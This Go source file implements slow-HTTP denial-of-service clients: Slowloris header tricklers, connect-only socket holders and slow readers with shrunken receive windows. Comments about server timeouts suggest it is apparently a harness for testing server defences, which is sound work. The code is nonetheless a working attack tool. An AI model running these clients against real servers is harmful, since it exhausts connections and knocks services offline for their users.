package clients

import (
	"context"
	"errors"
	"fmt"
	"net"
	"os"
	"strconv"
	"time"
)

// SlowlorisConfig describes slow-header senders.
type SlowlorisConfig struct {
	Target
	// N is the number of connections.
	N int
	// Interval is the pause between two header lines (default 500 ms).
	Interval time.Duration
}

// StartSlowloris starts N connections that each send a request line and
// then one more header line every Interval, never ending the head. When the
// server closes one (as RequestReadTimeout makes it do, usually after a
// 408), it reconnects after Interval, as the attack does.
func StartSlowloris(ctx context.Context, cfg SlowlorisConfig) (*Group, error) {
	if cfg.Interval <= 0 {
		cfg.Interval = 500 * time.Millisecond
	}
	g, err := newGroup(ctx, cfg.Target)
	if err != nil {
		return nil, err
	}
	head := []byte("GET " + g.target.Path + " HTTP/1.1\r\nHost: " + g.target.Host + "\r\n")
	g.spawn(cfg.N, func() {
		buf := make([]byte, 512)
		for g.ctx.Err() == nil {
			c, ok := g.dial(nil)
			if !ok {
				if !g.pause(cfg.Interval) {
					return
				}
				continue
			}
			closed := trickle(g, c, head, cfg.Interval, buf)
			g.drop(c, closed)
			if !g.pause(cfg.Interval) {
				return
			}
		}
	})
	return g, nil
}

// trickle sends head, then a header line every interval, until the server
// answers or closes (true) or the group ends (false). Waiting for the next
// line is a read with a deadline, so an answer is seen at once.
func trickle(g *Group, c net.Conn, head []byte, interval time.Duration, buf []byte) bool {
	line := head
	for i := 0; g.ctx.Err() == nil; i++ {
		if _, err := c.Write(line); err != nil {
			return g.ctx.Err() == nil
		}
		line = []byte("X-Slow-" + strconv.Itoa(i) + ": a\r\n")
		c.SetReadDeadline(time.Now().Add(interval))
		n, err := c.Read(buf)
		if n > 0 {
			g.c.answered.Add(1)
			g.c.bytes.Add(int64(n))
		}
		if err == nil || !errors.Is(err, os.ErrDeadlineExceeded) {
			// An answer (a 408 or 400) or a close: the server gave up.
			return g.ctx.Err() == nil
		}
	}
	return false
}

// ConnectOnlyConfig describes connect-only clients.
type ConnectOnlyConfig struct {
	Target
	// N is the number of connections.
	N int
}

// StartConnectOnly opens N connections that complete the TCP handshake and
// send nothing, and holds them until the server closes them or Close. With
// TCP_DEFER_ACCEPT on the listener the server never accepts them (they stay
// SYN_RECV on its side while the client sees ESTABLISHED).
func StartConnectOnly(ctx context.Context, cfg ConnectOnlyConfig) (*Group, error) {
	g, err := newGroup(ctx, cfg.Target)
	if err != nil {
		return nil, err
	}
	g.spawn(cfg.N, func() {
		c, ok := g.dial(nil)
		if !ok {
			return
		}
		buf := make([]byte, 512)
		g.drop(c, g.waitClosed(c, buf))
	})
	return g, nil
}

// SlowReadConfig describes slow readers.
type SlowReadConfig struct {
	Target
	// N is the number of connections.
	N int
	// RcvBuf is each socket's SO_RCVBUF in bytes (default 16 KiB; the
	// kernel doubles it), set before connect so the window stays small.
	RcvBuf int
	// Chunk bytes are read every Interval (defaults 4 KiB and 50 ms, 80
	// KB/s per connection).
	Chunk    int
	Interval time.Duration
}

// StartSlowReaders starts N connections that each request Path (a large
// file) and read the response slowly, then request it again on the same
// connection; a connection the server closes is reopened.
func StartSlowReaders(ctx context.Context, cfg SlowReadConfig) (*Group, error) {
	if cfg.RcvBuf <= 0 {
		cfg.RcvBuf = 16 << 10
	}
	if cfg.Chunk <= 0 {
		cfg.Chunk = 4 << 10
	}
	if cfg.Interval <= 0 {
		cfg.Interval = 50 * time.Millisecond
	}
	g, err := newGroup(ctx, cfg.Target)
	if err != nil {
		return nil, err
	}
	req := g.target.request()
	g.spawn(cfg.N, func() {
		buf := make([]byte, cfg.Chunk)
		for g.ctx.Err() == nil {
			c, ok := g.dial(setRcvBuf(cfg.RcvBuf))
			if !ok {
				if !g.pause(cfg.Interval) {
					return
				}
				continue
			}
			g.drop(c, sip(g, c, req, buf, cfg.Interval))
		}
	})
	return g, nil
}

// sip sends req and reads the answers chunk by chunk, one chunk per
// interval, sending req again whenever a whole response arrived (it counts
// them by Content-Length). It returns whether the server closed c.
func sip(g *Group, c net.Conn, req, buf []byte, interval time.Duration) bool {
	if _, err := c.Write(req); err != nil {
		return g.ctx.Err() == nil
	}
	var left int64 = -1 // body bytes still expected; -1: in the head
	var head []byte
	for g.ctx.Err() == nil {
		n, err := c.Read(buf)
		g.c.bytes.Add(int64(n))
		data := buf[:n]
		for len(data) > 0 {
			if left < 0 {
				head = append(head, data...)
				end := indexHeadEnd(head)
				if end < 0 {
					if len(head) > 64<<10 {
						return true
					}
					data = nil
					break
				}
				cl, perr := contentLength(head[:end])
				if perr != nil {
					return true
				}
				data = head[end:]
				head = head[:0]
				left = cl
			}
			k := min(int64(len(data)), left)
			left -= k
			data = data[k:]
			if left == 0 {
				g.c.answered.Add(1)
				left = -1
				if _, err := c.Write(req); err != nil {
					return g.ctx.Err() == nil
				}
			}
		}
		if err != nil {
			return g.ctx.Err() == nil
		}
		if !g.pause(interval) {
			return false
		}
	}
	return false
}

// indexHeadEnd returns the offset just after the head's empty line, or -1.
func indexHeadEnd(b []byte) int {
	for i := 0; i+3 < len(b); i++ {
		if b[i] == '\r' && b[i+1] == '\n' && b[i+2] == '\r' && b[i+3] == '\n' {
			return i + 4
		}
	}
	return -1
}

// contentLength finds Content-Length in a response head.
func contentLength(head []byte) (int64, error) {
	const key = "\r\ncontent-length:"
	for i := 0; i+len(key) <= len(head); i++ {
		if !equalFoldASCII(head[i:i+len(key)], key) {
			continue
		}
		j := i + len(key)
		for j < len(head) && head[j] == ' ' {
			j++
		}
		var n int64
		digits := 0
		for ; j < len(head) && head[j] >= '0' && head[j] <= '9' && digits < 18; j++ {
			n = n*10 + int64(head[j]-'0')
			digits++
		}
		if digits == 0 {
			break
		}
		return n, nil
	}
	return 0, fmt.Errorf("clients: response without a Content-Length")
}

func equalFoldASCII(b []byte, lower string) bool {
	for i := range b {
		c := b[i]
		if c >= 'A' && c <= 'Z' {
			c += 'a' - 'A'
		}
		if c != lower[i] {
			return false
		}
	}
	return true
}
